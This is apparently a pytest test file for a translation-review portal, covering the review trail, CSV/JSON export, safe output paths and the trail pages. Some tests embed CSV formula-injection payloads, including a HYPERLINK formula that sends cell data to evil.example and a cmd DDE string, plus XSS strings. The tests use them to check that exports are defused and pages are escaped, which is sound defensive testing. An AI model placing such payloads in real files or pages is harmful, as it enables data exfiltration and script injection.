"""The review trail: trail.events/objections, `flask review export` (CSV and JSON), and the
trail pages (per locale, paginated; per message, for reviewers and translators)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import socket
import stat
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy import select

from portal.models import Approval, Rejection, User, utcnow
from portal.people.accounts import find_user
from portal.review import exports, operations, trail
from portal.translation.catalogs import load_po
from portal.translation.extract import MEDICAL_COMMENT
from portal.translation.identity import entry_fingerprint, message_id, message_key
from tests.conftest import login

TESTS = "Tests when leukemia comes back"  # medical
ANTIBIOTIC = "Antibiotic"  # medical
ANXIETY = "Anxiety"  # medical
BLOOD_TEST = "Blood test"  # medical
BONE_MARROW = "Bone marrow"  # medical
GLOSSARY = "Glossary"  # medical
UNKNOWN_AUTHOR = "unknown (edited outside the portal)"

ARABIC_FORMS = [
    "لا يوجد جزء غير مُراجَع (%(num)s)",
    "جزء واحد من هذه الصفحة لم يُراجَع بعد",
    "جزءان من هذه الصفحة لم يُراجَعا بعد",
    "%(num)s أجزاء من هذه الصفحة لم تُراجَع بعد",
    "%(num)s جزءًا من هذه الصفحة لم يُراجَع بعد",
    "%(num)s جزء من هذه الصفحة لم يُراجَع بعد",
]
CHINESE = "抗生素：杀死细菌的药物"


# --- helpers ---------------------------------------------------------------------------------

def plural_msgid(work) -> str:
    return next(e.msgid for e in load_po(work.paths.template) if e.msgid_plural)


def make_plural_medical(work) -> str:
    """The template has no medical plural message; mark this app's copy of its one plural
    message medical (as an author would by moving it into content), so it is reviewed."""
    def mark(catalog):
        entry = next(e for e in catalog if e.msgid_plural)
        entry.comment = MEDICAL_COMMENT + ("\n" + entry.comment if entry.comment else "")

    work.change_template(mark)
    msgid = plural_msgid(work)
    assert work.unit("ar", msgid).kind == "medical"
    return msgid


def key_of(work, locale: str, msgid: str):
    return message_key(work.entry(locale, msgid))


def decide(work, locale: str, msgid: str, reviewer: str, decision: str, text: str = ""):
    """Approve or reject the current text, as the review page does (seen = the current text)."""
    unit = work.unit(locale, msgid)
    with work.session() as session:
        person = find_user(session, reviewer)
        outcome = operations.review_message(session, locale, unit.mid, person, unit.fingerprint, decision, text)
        return outcome.record.id


def revoke(work, locale: str, approval_id: int, reviewer: str, reason: str) -> None:
    with work.session() as session:
        operations.revoke_approval(session, locale, approval_id, find_user(session, reviewer), reason)


def set_display_name(work, username: str, name: str) -> None:
    with work.session() as session:
        session.scalars(select(User).where(User.username == username)).one().display_name = name
        session.commit()


def events(work, locale=None, key=None):
    with work.session() as session:
        return trail.events(session, locale, key)


def export(runner, *args):
    result = runner.invoke(args=["review", "export", *args])
    assert result.exit_code == 0, result.output
    return result


class _Tables(HTMLParser):
    """Rows (lists of cell texts) of every <table class="trail"> in a page."""

    def __init__(self):
        super().__init__()
        self.tables: list[list[list[str]]] = []
        self._in_trail = False
        self._row: list[str] | None = None
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        if tag == "table" and ("class", "trail") in attrs:
            self._in_trail = True
            self.tables.append([])
        elif self._in_trail and tag == "tr":
            self._row = []
        elif self._in_trail and tag == "td" and self._row is not None:
            self._cell = []

    def handle_endtag(self, tag):
        if tag == "table" and self._in_trail:
            self._in_trail = False
        elif tag == "td" and self._cell is not None:
            self._row.append("".join(self._cell).strip())
            self._cell = None
        elif tag == "tr" and self._row is not None:
            if self._row:  # header rows have <th>, no <td>
                self.tables[-1].append(self._row)
            self._row = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def trail_tables(html: str) -> list[list[list[str]]]:
    parser = _Tables()
    parser.feed(html)
    return parser.tables


def trail_html(html: str) -> str:
    match = re.search(r'<table class="trail">.*?</table>', html, re.S)
    assert match, "no trail table on the page"
    return match.group(0)


# --- fixtures --------------------------------------------------------------------------------

@pytest.fixture
def people(work):
    work.user("tina", "translator", "es")
    work.user("tomas", "translator", "es")
    work.user("rita", "reviewer", "es")
    work.user("rosa", "reviewer", "es")
    work.user("amal", "translator", "ar")
    work.user("rashid", "reviewer", "ar")
    work.user("zoe", "translator", "zh_Hans")
    work.user("li", "reviewer", "zh_Hans")
    return work


@pytest.fixture
def scenario(people):
    """Six events in three locales, in this order (the order the trail must give, oldest first).

    Returns (started, finished, expected): expected is one tuple per event, oldest first:
    (action, locale, reviewer, source, source_plural, translation forms, reason).
    """
    work = people
    plural = make_plural_medical(work)
    started = utcnow().replace(microsecond=0)
    work.translate("es", TESTS, "Pruebas cuando la leucemia vuelve", author="tina")
    decide(work, "es", TESTS, "rita", "reject", "Use «recaída», no «vuelve».")
    work.translate("es", TESTS, "Pruebas cuando la leucemia regresa (recaída)", author="tina")
    approval_id = decide(work, "es", TESTS, "rita", "approve", "Correcto")
    work.translate("ar", plural, ARABIC_FORMS, author="amal")
    decide(work, "ar", plural, "rashid", "approve")
    work.translate("zh_Hans", ANTIBIOTIC, CHINESE, author="zoe")
    decide(work, "zh_Hans", ANTIBIOTIC, "li", "approve", "术语正确")
    revoke(work, "es", approval_id, "rosa", "El comité pidió otra palabra")
    work.translate("es", ANXIETY, "Ansiedad", author=None)  # edited in the file, outside the portal
    decide(work, "es", ANXIETY, "rita", "approve")
    finished = utcnow()
    plural_english = next(e.msgid_plural for e in load_po(work.paths.template) if e.msgid_plural)
    expected = [
        ("rejected", "es", "rita", TESTS, "", ["Pruebas cuando la leucemia vuelve"],
         "Use «recaída», no «vuelve»."),
        ("approved", "es", "rita", TESTS, "", ["Pruebas cuando la leucemia regresa (recaída)"], "Correcto"),
        ("approved", "ar", "rashid", plural, plural_english, ARABIC_FORMS, ""),
        ("approved", "zh_Hans", "li", ANTIBIOTIC, "", [CHINESE], "术语正确"),
        ("revoked", "es", "rosa", TESTS, "", ["Pruebas cuando la leucemia regresa (recaída)"],
         "El comité pidió otra palabra"),
        ("approved", "es", "rita", ANXIETY, "", ["Ansiedad"], ""),
    ]
    return started, finished, expected


# --- trail.events ----------------------------------------------------------------------------

def test_events_record_each_decision_with_who_when_what_and_why_oldest_first(people):
    work = people
    before = utcnow()
    work.translate("es", TESTS, "Pruebas cuando la leucemia vuelve", author="tina")
    rejected_print = entry_fingerprint(work.entry("es", TESTS))
    decide(work, "es", TESTS, "rita", "reject", "Falta la palabra recaída")
    work.translate("es", TESTS, "Pruebas cuando la leucemia regresa", author="tina")
    approved_print = entry_fingerprint(work.entry("es", TESTS))
    approval_id = decide(work, "es", TESTS, "rita", "approve", "Bien dicho")
    revoke(work, "es", approval_id, "rosa", "El comité cambió el término")
    after = utcnow()

    found = events(work, "es", key_of(work, "es", TESTS))
    assert [e.kind for e in found] == ["rejected", "approved", "revoked"]
    rejected, approved, revoked = found
    assert [e.at for e in found] == sorted(e.at for e in found)
    assert rejected.at < approved.at < revoked.at
    assert all(before <= e.at <= after for e in found), "times are naive UTC, when it happened"
    for event in found:
        assert (event.locale, event.msgctxt, event.msgid, event.msgid_plural) == ("es", "", TESTS, "")
        assert event.key == ("", TESTS, "")

    assert (rejected.reviewer, rejected.reviewer_name) == ("rita", "rita")
    assert rejected.forms == ("Pruebas cuando la leucemia vuelve",)
    assert rejected.fingerprint == rejected_print
    assert rejected.reason == "Falta la palabra recaída"
    assert rejected.approval_id is None and rejected.author_known is None

    assert approved.reviewer == "rita"
    assert approved.forms == ("Pruebas cuando la leucemia regresa",)
    assert approved.fingerprint == approved_print
    assert approved.reason == "Bien dicho"  # an approval's optional note
    assert approved.approval_id == approval_id
    assert (approved.author, approved.author_known) == ("tina", True)

    # The revocation is its own event, after the approval, naming who revoked and why.
    assert revoked.reviewer == "rosa"
    assert revoked.reason == "El comité cambió el término"
    assert revoked.forms == approved.forms and revoked.fingerprint == approved_print
    assert revoked.approval_id == approval_id


def test_events_are_filtered_per_locale_and_per_message(people):
    work = people
    work.translate("es", TESTS, "Pruebas cuando la leucemia vuelve", author="tina")
    decide(work, "es", TESTS, "rita", "approve")
    work.translate("es", BLOOD_TEST, "Análisis de sangre", author="tina")
    decide(work, "es", BLOOD_TEST, "rita", "reject", "Mejor «prueba de sangre»")
    work.translate("ar", BLOOD_TEST, "فحص الدم", author="amal")
    decide(work, "ar", BLOOD_TEST, "rashid", "approve")
    work.translate("ar", TESTS, "الفحوصات عند عودة اللوكيميا", author="amal")
    decide(work, "ar", TESTS, "rashid", "reject", "ترجمة غير دقيقة")

    everything = events(work)
    assert sorted((e.locale, e.msgid, e.kind) for e in everything) == sorted([
        ("es", TESTS, "approved"), ("es", BLOOD_TEST, "rejected"),
        ("ar", BLOOD_TEST, "approved"), ("ar", TESTS, "rejected")])
    assert [(e.locale, e.msgid) for e in everything] == [
        ("es", TESTS), ("es", BLOOD_TEST), ("ar", BLOOD_TEST), ("ar", TESTS)], "oldest first"

    assert [(e.msgid, e.kind) for e in events(work, "es")] == [(TESTS, "approved"), (BLOOD_TEST, "rejected")]
    assert [(e.msgid, e.kind) for e in events(work, "ar")] == [(BLOOD_TEST, "approved"), (TESTS, "rejected")]
    assert events(work, "vi") == []

    assert [(e.locale, e.kind) for e in events(work, "es", ("", BLOOD_TEST, ""))] == [("es", "rejected")]
    assert [(e.locale, e.kind) for e in events(work, "ar", ("", BLOOD_TEST, ""))] == [("ar", "approved")]
    assert events(work, "es", ("", ANXIETY, "")) == []
    assert events(work, "es", ("some context", TESTS, "")) == [], "the context is part of the message"


def test_text_edited_outside_the_portal_has_an_unknown_author(people, runner):
    work = people
    work.translate("es", ANXIETY, "Ansiedad", author=None)  # written straight into the .po file
    decide(work, "es", ANXIETY, "rita", "approve")

    (approved,) = events(work, "es")
    assert approved.author_known is False
    assert approved.author == ""
    assert approved.author_label == UNKNOWN_AUTHOR
    assert trail.as_record(approved)["author"] == UNKNOWN_AUTHOR
    assert trail.as_record(approved)["author_known"] is False

    rows = list(csv.DictReader(io.StringIO(export(runner, "--format", "csv").stdout)))
    assert [(r["action"], r["source"], r["author"], r["author_known"]) for r in rows] == [
        ("approved", ANXIETY, UNKNOWN_AUTHOR, "no")]
    (record,) = json.loads(export(runner, "--format", "json").stdout)
    assert (record["author"], record["author_known"]) == (UNKNOWN_AUTHOR, False)


def test_a_single_known_author_is_named_and_several_are_said_to_be_several(people, runner):
    work = people
    work.translate("es", ANXIETY, "Ansiedad", author="tina")
    decide(work, "es", ANXIETY, "rita", "approve")
    work.translate("es", BLOOD_TEST, "Análisis de sangre", author="tina", fuzzy=True)
    work.translate("es", BLOOD_TEST, "Análisis de sangre", author="tomas")  # the same text, confirmed by tomas
    decide(work, "es", BLOOD_TEST, "rita", "approve")

    by_msgid = {e.msgid: e for e in events(work, "es")}
    assert (by_msgid[ANXIETY].author, by_msgid[ANXIETY].author_known) == ("tina", True)
    assert by_msgid[ANXIETY].author_label == "tina"
    assert by_msgid[BLOOD_TEST].author_known is True
    assert by_msgid[BLOOD_TEST].author_label == "several people"

    rows = {r["source"]: r for r in csv.DictReader(io.StringIO(export(runner).stdout))}
    assert (rows[ANXIETY]["author"], rows[ANXIETY]["author_known"]) == ("tina", "yes")
    assert rows[BLOOD_TEST]["author"] == "several people"
    # Rejections and revocations have no author column value.
    work.translate("es", GLOSSARY, "Glosario", author="tina")
    decide(work, "es", GLOSSARY, "rita", "reject", "Falta contexto")
    rows = {r["source"]: r for r in csv.DictReader(io.StringIO(export(runner).stdout))}
    assert (rows[GLOSSARY]["action"], rows[GLOSSARY]["author"], rows[GLOSSARY]["author_known"]) == (
        "rejected", "", "")


# --- trail.objections ------------------------------------------------------------------------

def test_reapproving_a_rejected_text_clears_the_objection(people):
    work = people
    work.translate("es", TESTS, "Pruebas cuando la leucemia vuelve", author="tina")
    print_ = entry_fingerprint(work.entry("es", TESTS))
    decide(work, "es", TESTS, "rita", "reject", "No me convence")

    objections = trail.objections(events(work, "es"))
    assert list(objections) == [print_]
    assert (objections[print_].kind, objections[print_].reason) == ("rejected", "No me convence")

    decide(work, "es", TESTS, "rosa", "approve", "A mí sí")  # the same text, approved after all
    assert trail.objections(events(work, "es")) == {}


def test_approving_another_text_does_not_clear_an_objection_to_this_one(people):
    work = people
    work.translate("es", TESTS, "Pruebas cuando la leucemia vuelve", author="tina")
    rejected = entry_fingerprint(work.entry("es", TESTS))
    decide(work, "es", TESTS, "rita", "reject", "No me convence")
    work.translate("es", TESTS, "Pruebas cuando la leucemia regresa", author="tina")
    decide(work, "es", TESTS, "rita", "approve")

    objections = trail.objections(events(work, "es"))
    assert list(objections) == [rejected], "objections are per exact text (fingerprint)"


def test_a_revocation_counts_as_an_objection(people):
    work = people
    work.translate("es", TESTS, "Pruebas cuando la leucemia vuelve", author="tina")
    print_ = entry_fingerprint(work.entry("es", TESTS))
    approval_id = decide(work, "es", TESTS, "rita", "approve")
    assert trail.objections(events(work, "es")) == {}

    revoke(work, "es", approval_id, "rosa", "El comité cambió el término")
    objections = trail.objections(events(work, "es"))
    assert list(objections) == [print_]
    assert (objections[print_].kind, objections[print_].reviewer, objections[print_].reason) == (
        "revoked", "rosa", "El comité cambió el término")

    decide(work, "es", TESTS, "rita", "approve", "Aprobado de nuevo")  # a new approval of the same text
    assert trail.objections(events(work, "es")) == {}


# --- flask review export ---------------------------------------------------------------------

def _as_utc(text: str) -> dt.datetime:
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", text), text
    return dt.datetime.fromisoformat(text[:-1])


def test_export_json_lists_exactly_the_events(scenario, runner):
    started, finished, expected = scenario
    result = export(runner, "--format", "json")
    records = json.loads(result.stdout)
    assert isinstance(records, list) and len(records) == len(expected)
    got = [(r["action"], r["locale"], r["reviewer"], r["source"], r["source_plural"], r["translation"],
            r["reason"]) for r in records]
    assert got == [tuple(e) for e in expected]
    for record in records:
        assert set(record) == set(trail.EXPORT_FIELDS)
        assert started <= _as_utc(record["time_utc"]) <= finished
        assert isinstance(record["translation"], list)
    times = [_as_utc(r["time_utc"]) for r in records]
    assert times == sorted(times), "oldest first"
    # The plural message's translation is the list of its forms, in order.
    assert records[2]["translation"] == ARABIC_FORMS
    # Revocation and approval name the same approval.
    assert records[4]["approval_id"] == records[1]["approval_id"] is not None
    assert records[0]["approval_id"] is None
    assert (records[1]["reviewer_name"], records[1]["author"], records[1]["author_known"]) == ("rita", "tina", True)


def test_export_csv_has_the_export_fields_and_one_row_per_event(scenario, runner):
    started, finished, expected = scenario
    result = export(runner, "--format", "csv")
    assert result.stdout == export(runner).stdout, "CSV is the default"
    reader = csv.DictReader(io.StringIO(result.stdout, newline=""))
    rows = list(reader)
    assert tuple(reader.fieldnames) == trail.EXPORT_FIELDS
    assert len(rows) == len(expected)
    for row, (action, locale, reviewer, source, source_plural, forms, reason) in zip(rows, expected):
        assert (row["action"], row["locale"], row["reviewer"], row["source"], row["source_plural"],
                row["reason"]) == (action, locale, reviewer, source, source_plural, reason)
        if source_plural:
            assert row["translation"] == "\n".join(f"[{i}] {form}" for i, form in enumerate(forms))
        else:
            assert row["translation"] == forms[0]
        assert started <= _as_utc(row["time_utc"]) <= finished
    assert rows[2]["translation"].splitlines() == [f"[{i}] {form}" for i, form in enumerate(ARABIC_FORMS)]
    assert rows[2]["translation"].startswith("[0] لا يوجد")
    assert rows[4]["approval_id"] == rows[1]["approval_id"] != ""
    assert rows[0]["approval_id"] == ""


def test_export_keeps_arabic_and_chinese_byte_exact(scenario, runner, tmp_path):
    for fmt in ("csv", "json"):
        result = export(runner, "--format", fmt)
        for text in [*ARABIC_FORMS, CHINESE, "术语正确", "Use «recaída», no «vuelve»."]:
            assert text.encode("utf-8") in result.stdout_bytes, (fmt, text)
        assert b"\\u" not in result.stdout_bytes, "no ASCII escapes: the text is written as is"
        out = tmp_path / f"trail.{fmt}"
        export(runner, "--format", fmt, "--output", str(out))
        assert out.read_bytes() == result.stdout_bytes
    records = json.loads((tmp_path / "trail.json").read_bytes().decode("utf-8"))
    assert records[2]["translation"] == ARABIC_FORMS and records[3]["translation"] == [CHINESE]
    with open(tmp_path / "trail.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[3]["translation"] == CHINESE and rows[3]["reason"] == "术语正确"


def test_export_filters_by_locale(scenario, runner):
    _, _, expected = scenario
    rows = list(csv.DictReader(io.StringIO(export(runner, "--locale", "es").stdout)))
    assert [(r["action"], r["locale"], r["source"]) for r in rows] == [
        (e[0], e[1], e[3]) for e in expected if e[1] == "es"]
    assert len(rows) == 4

    records = json.loads(export(runner, "--locale", "zh_Hans", "--locale", "ar", "--format", "json").stdout)
    assert [(r["action"], r["locale"]) for r in records] == [("approved", "ar"), ("approved", "zh_Hans")]

    assert json.loads(export(runner, "--locale", "vi", "--format", "json").stdout) == []
    rows = list(csv.reader(io.StringIO(export(runner, "--locale", "vi").stdout)))
    assert rows == [list(trail.EXPORT_FIELDS)], "an empty trail is still a CSV with its header"


def test_export_refuses_an_unknown_locale(scenario, runner):
    result = runner.invoke(args=["review", "export", "--locale", "fr"])
    assert result.exit_code != 0
    assert "Unknown locale 'fr'" in result.output
    assert "approved" not in result.stdout


def test_export_refuses_the_source_language(scenario, runner):
    """English has no reviews: asking for it is a mistake worth saying, not an empty export."""
    result = runner.invoke(args=["review", "export", "--locale", "en"])
    assert result.exit_code == 1
    assert "English is the source language" in result.output and "es, zh_Hans, vi, ar" in result.output


def test_export_to_a_file_writes_it_and_says_how_many_events(scenario, runner, tmp_path):
    _, _, expected = scenario
    out = tmp_path / "trail.csv"
    out.write_text("old contents\n")  # replaced whole
    result = export(runner, "--output", str(out))
    assert result.stdout == ""
    assert f"Wrote {len(expected)} event(s) to {out}." in result.stderr
    assert out.read_bytes() == export(runner).stdout_bytes
    assert len(list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))) == len(expected)

    out_json = tmp_path / "es.json"
    result = export(runner, "--format", "json", "--locale", "es", "-o", str(out_json))
    assert "Wrote 4 event(s)" in result.stderr
    assert [r["locale"] for r in json.loads(out_json.read_text(encoding="utf-8"))] == ["es"] * 4


def test_export_to_a_directory_is_a_clear_error(scenario, runner, tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    (folder / "keep.csv").write_text("keep me\n")
    result = runner.invoke(args=["review", "export", "--output", str(folder)])
    assert result.exit_code == 1, result.output
    assert str(folder) in result.output and "directory" in result.output
    assert folder.is_dir() and sorted(p.name for p in folder.iterdir()) == ["keep.csv"]
    assert (folder / "keep.csv").read_text() == "keep me\n"


def test_export_into_a_path_that_cannot_exist_is_a_clear_error(scenario, runner, tmp_path):
    not_a_folder = tmp_path / "notes.txt"
    not_a_folder.write_text("a file, not a folder\n")
    out = not_a_folder / "trail.csv"
    result = runner.invoke(args=["review", "export", "--output", str(out)])
    assert result.exit_code == 1, result.output
    assert f"Could not write {out}" in result.output
    assert not_a_folder.read_text() == "a file, not a folder\n"


def test_export_into_a_missing_folder_is_a_clear_error(scenario, runner, tmp_path):
    out = tmp_path / "no-such-folder" / "trail.csv"
    result = runner.invoke(args=["review", "export", "--output", str(out)])
    assert result.exit_code == 1, result.output
    assert str(out) in result.output
    assert not out.exists()


def test_a_failed_export_leaves_the_existing_file_unchanged(scenario, runner, tmp_path, monkeypatch):
    folder = tmp_path / "exports"
    folder.mkdir()
    out = folder / "trail.csv"
    out.write_text("last week's export\n")
    real_replace = os.replace

    def disk_full(src, dst, *args, **kwargs):
        if os.fspath(dst) == str(out):
            raise OSError(28, "No space left on device")
        return real_replace(src, dst, *args, **kwargs)

    monkeypatch.setattr(os, "replace", disk_full)
    result = runner.invoke(args=["review", "export", "--output", str(out)])
    assert result.exit_code == 1, result.output
    assert result.output == (f"Error: the disk is full ({out}). Nothing was changed. Free some space and run the "
                             "command again.\n")  # worded as every command words it (portal.faults)
    assert out.read_text() == "last week's export\n"
    assert [p.name for p in folder.iterdir()] == ["trail.csv"], "no temporary file left behind"


# The export runs as root in production: it must never replace anything but a regular file, nor
# write into the portal's own folders. These tests only ever point it at paths under tmp_path.

def refused(runner, target, message: str):
    result = runner.invoke(args=["review", "export", "--output", str(target)])
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit), "a clear error, not a traceback"
    assert f"Could not write {target}: " in result.output and message in result.output
    assert "Nothing was written." in result.output
    assert len(result.output.strip().splitlines()) == 1, result.output
    return result


def test_export_refuses_a_fifo_and_leaves_it_a_fifo(scenario, runner, tmp_path):
    """A stand-in for a device such as /dev/null: os.replace would make it a regular file."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    refused(runner, fifo, "it is a FIFO")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".pipe")) == [], "no temporary file"


def test_export_refuses_a_socket(scenario, runner, tmp_path):
    path = tmp_path / "sock"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        refused(runner, path, "it is a socket")
        assert stat.S_ISSOCK(os.lstat(path).st_mode)


def test_export_refuses_a_symlink_and_leaves_its_target(scenario, runner, tmp_path, app):
    assert runner.invoke(args=["translate", "export", "es"]).exit_code == 0  # the repository's catalog
    catalog = tmp_path / "copy-of-messages.po"
    catalog.write_bytes((Path(app.config["TRANSLATIONS_DIR"]) / "es" / "LC_MESSAGES" / "messages.po").read_bytes())
    before = catalog.read_bytes()
    link = tmp_path / "trail.csv"
    link.symlink_to(catalog)
    refused(runner, link, "symbolic link")
    assert link.is_symlink() and os.readlink(link) == str(catalog)
    assert catalog.read_bytes() == before


def test_export_refuses_a_dangling_symlink(scenario, runner, tmp_path):
    link = tmp_path / "trail.csv"
    link.symlink_to(tmp_path / "not-yet")
    refused(runner, link, "symbolic link")
    assert not (tmp_path / "not-yet").exists()


@pytest.mark.parametrize("place", ["TRANSLATIONS_DIR", "PUBLISHED_DIR", "UPLOAD_DIR", "instance"])
def test_export_refuses_the_portals_own_folders(scenario, runner, app, tmp_path, place):
    app.instance_path = str(tmp_path / "instance")  # this test app's own, not the repository's
    folder = Path(app.instance_path if place == "instance" else app.config[place])
    (folder / "es").mkdir(parents=True, exist_ok=True)
    existing = folder / "es" / "messages.po"
    if not existing.exists():
        existing.write_text("# the portal's file\n")
    before = existing.read_bytes()
    refused(runner, existing, "it is inside")
    refused(runner, folder / "trail.csv", "it is inside")
    assert existing.read_bytes() == before
    assert not (folder / "trail.csv").exists()


def test_export_refuses_a_path_that_resolves_into_the_catalogs(scenario, runner, app, tmp_path):
    """A symlinked folder on the way is followed to see where the file would really land."""
    translations = Path(app.config["TRANSLATIONS_DIR"])
    assert runner.invoke(args=["translate", "export", "es"]).exit_code == 0  # the repository's catalog
    catalog = translations / "es" / "LC_MESSAGES" / "messages.po"
    before = catalog.read_bytes()
    shortcut = tmp_path / "shortcut"
    shortcut.symlink_to(translations / "es")
    refused(runner, shortcut / "LC_MESSAGES" / "messages.po", "inside the translations folder")
    refused(runner, shortcut / "trail.csv", "inside the translations folder")
    assert catalog.read_bytes() == before
    assert not (translations / "es" / "trail.csv").exists()


def test_export_through_a_symlinked_folder_elsewhere_is_written(scenario, runner, tmp_path):
    real = tmp_path / "real-exports"
    real.mkdir()
    (tmp_path / "exports").symlink_to(real)
    export(runner, "--output", str(tmp_path / "exports" / "trail.csv"))
    assert (real / "trail.csv").is_file()


def test_a_target_that_becomes_a_fifo_during_the_write_is_still_refused(tmp_path, monkeypatch):
    """The check runs again just before the new file takes the path's place."""
    out = tmp_path / "trail.csv"
    write = exports.atomic_write

    def swapped_meanwhile(path, data, before_replace=None, mode=None):
        os.mkfifo(out)
        return write(path, data, before_replace=before_replace, mode=mode)

    monkeypatch.setattr(exports, "atomic_write", swapped_meanwhile)
    with pytest.raises(exports.UnsafeOutput, match="it is a FIFO"):
        exports.write_export(out, b"event\n", [])
    assert stat.S_ISFIFO(os.lstat(out).st_mode)
    assert [p.name for p in tmp_path.iterdir()] == ["trail.csv"], "no temporary file left behind"


@pytest.mark.parametrize("exists", [False, True])
def test_exported_file_is_readable_only_by_its_owner(scenario, runner, tmp_path, exists):
    out = tmp_path / "trail.csv"
    if exists:
        out.write_text("old\n")
        out.chmod(0o644)
    export(runner, "--output", str(out))
    assert stat.S_IMODE(os.lstat(out).st_mode) == 0o600
    assert stat.S_ISREG(os.lstat(out).st_mode)
    assert out.read_bytes() == export(runner).stdout_bytes


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_export_defuses_formulas_but_json_keeps_the_text(people, runner, start):
    work = people
    text = f'{start}HYPERLINK("http://evil.example/?x="&A1, "Antibiótico")'
    work.translate("es", ANTIBIOTIC, text, author="tina")
    reason = f"{start}cmd|' /C calc'!A0"
    decide(work, "es", ANTIBIOTIC, "rita", "reject", reason)
    work.translate("es", BONE_MARROW, "Médula ósea", author="tina")
    decide(work, "es", BONE_MARROW, "rita", "approve")

    rows = list(csv.DictReader(io.StringIO(export(runner, "--format", "csv").stdout)))
    assert rows[0]["translation"] == "'" + text
    assert rows[0]["reason"] == "'" + reason
    assert rows[1]["translation"] == "Médula ósea", "ordinary text is not changed"
    assert not any(cell.startswith(start) for row in rows for cell in row.values() if cell)

    records = json.loads(export(runner, "--format", "json").stdout)
    assert records[0]["translation"] == [text]
    assert records[0]["reason"] == reason


# --- trail pages -----------------------------------------------------------------------------

def test_locale_trail_page_lists_events_newest_first_with_links(people, scenario, app):
    work = people
    set_display_name(work, "rita", "Rita Reyes")
    set_display_name(work, "rosa", "Rosa Ruiz")
    client = app.test_client()
    login(client, "rita")
    response = client.get("/review/es/trail")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    (rows,) = trail_tables(html)
    # newest first: approval of Anxiety, revocation, approval, rejection (es only)
    assert [row[1] for row in rows] == ["Approved", "Approval revoked", "Approved", "Rejected"]
    assert [row[2] for row in rows] == ["Rita Reyes", "Rosa Ruiz", "Rita Reyes", "Rita Reyes"]
    assert [row[3] for row in rows] == [ANXIETY, TESTS, TESTS, TESTS]
    assert [row[4] for row in rows] == ["Ansiedad", "Pruebas cuando la leucemia regresa (recaída)",
                                        "Pruebas cuando la leucemia regresa (recaída)",
                                        "Pruebas cuando la leucemia vuelve"]
    assert [row[5] for row in rows] == ["", "El comité pidió otra palabra", "Correcto",
                                        "Use «recaída», no «vuelve»."]
    assert rows[0][6] == UNKNOWN_AUTHOR and rows[2][6] == "tina"
    times = [dt.datetime.strptime(row[0], "%Y-%m-%d %H:%M") for row in rows]
    assert times == sorted(times, reverse=True)
    table = trail_html(html)
    assert f'href="/review/es/m/{message_id(("", TESTS, ""))}"' in table
    assert f'href="/review/es/m/{message_id(("", ANXIETY, ""))}"' in table
    assert "4 in all" in html
    assert CHINESE not in html and ARABIC_FORMS[1] not in html, "other locales' events are not listed"


def test_locale_trail_links_only_messages_still_in_the_catalog(people, app):
    work = people
    with work.session() as session:
        rita = find_user(session, "rita")
        session.add(Approval(locale="es", mid=message_id(("", "An old sentence, since removed", "")),
                             fingerprint="f" * 64, msgctxt="", msgid="An old sentence, since removed",
                             msgid_plural="", translation_json='["Una frase antigua"]', reviewer_id=rita.id,
                             author_known=False, created_at=utcnow(), note=""))
        session.commit()
    work.translate("es", BLOOD_TEST, "Análisis de sangre", author="tina")
    decide(work, "es", BLOOD_TEST, "rita", "approve")
    client = app.test_client()
    login(client, "rita")
    table = trail_html(client.get("/review/es/trail").get_data(as_text=True))
    assert "An old sentence, since removed" in table and "Una frase antigua" in table
    assert table.count("<a href=") == 1
    assert f'<a href="/review/es/m/{message_id(("", BLOOD_TEST, ""))}">{BLOOD_TEST}</a>' in table


def test_trail_pages_escape_html_in_translations_and_reasons(people, app):
    work = people
    work.translate("es", TESTS, "<b>Pruebas</b> <img src=x onerror=alert(2)>", author="tina")
    decide(work, "es", TESTS, "rita", "reject", "<script>alert(1)</script>")
    mid = message_id(("", TESTS, ""))
    rita = app.test_client()
    login(rita, "rita")
    tina = app.test_client()
    login(tina, "tina")
    pages = {"/review/es/trail": rita, f"/review/es/m/{mid}": rita, f"/translate/es/m/{mid}": tina}
    for url, client in pages.items():
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.get_data(as_text=True)
        assert "<script>alert(1)</script>" not in html, url
        assert "<img src=x" not in html and "<b>Pruebas" not in html, url
        table = trail_html(html)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in table, url
        assert "&lt;b&gt;Pruebas&lt;/b&gt; &lt;img src=x onerror=alert(2)&gt;" in table, url
        (rows,) = trail_tables(html)
        assert rows[0][1:3] == ["Rejected", "rita"]
        assert "<script>alert(1)</script>" in rows[0], url  # the text itself is shown, as text


def test_message_pages_show_that_messages_trail_oldest_first(people, scenario, app):
    work = people
    set_display_name(work, "rosa", "Rosa Ruiz")
    mid = message_id(("", TESTS, ""))
    rita = app.test_client()
    login(rita, "rita")
    tina = app.test_client()
    login(tina, "tina")
    for url, client in {f"/review/es/m/{mid}": rita, f"/translate/es/m/{mid}": tina}.items():
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.get_data(as_text=True)
        (rows,) = trail_tables(html)
        assert [row[1] for row in rows] == ["Rejected", "Approved", "Approval revoked"], url
        assert [row[2] for row in rows] == ["rita", "rita", "Rosa Ruiz"], url
        assert [row[3] for row in rows] == ["Pruebas cuando la leucemia vuelve",
                                            "Pruebas cuando la leucemia regresa (recaída)",
                                            "Pruebas cuando la leucemia regresa (recaída)"], url
        assert [row[4] for row in rows] == ["Use «recaída», no «vuelve».", "Correcto",
                                            "El comité pidió otra palabra"], url
        assert rows[1][5] == "tina"
        assert "Ansiedad" not in trail_html(html), "only this message's events"

    # A message nobody reviewed says so instead of showing an empty table.
    other = message_id(("", BLOOD_TEST, ""))
    html = tina.get(f"/translate/es/m/{other}").get_data(as_text=True)
    assert trail_tables(html) == [] and "No approvals, rejections or revocations yet." in html


